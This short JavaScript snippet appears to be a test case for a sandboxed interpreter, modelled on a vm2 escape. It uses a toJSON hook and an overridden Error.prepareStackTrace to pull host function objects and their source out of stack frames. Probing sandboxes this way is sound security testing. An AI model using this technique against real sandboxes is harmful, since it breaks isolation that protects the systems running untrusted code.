// The same by `toJSON`.
// after: interpreter
// source: vm2: toJSON of results
// calls: next next
let found = [];
const attack = {
  next() {
    if (found.length) return { proof: found };
    return {
      toJSON() {
        Error.prepareStackTrace = (_, frames) => frames;
        const { stack } = new Error();
        Error.prepareStackTrace = undefined;
        found = stack.map((frame) => frame.getFunction()).filter(Boolean).map(String).filter((text) => !/native code|toJSON/.test(text));
        return { a: 1 };
      },
    };
  },
};
